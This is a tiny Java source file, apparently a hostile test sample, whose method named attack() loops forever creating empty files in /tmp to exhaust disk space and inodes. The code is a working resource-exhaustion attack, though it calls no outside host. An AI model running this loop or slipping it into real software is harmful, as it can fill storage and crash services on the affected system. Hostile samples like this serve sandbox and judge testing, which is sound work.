import java.io.File;
import java.io.IOException;

class Solution {
    static void attack() throws IOException {
        for (int index = 0; ; index++) new File("/tmp/" + index).createNewFile();
    }
}
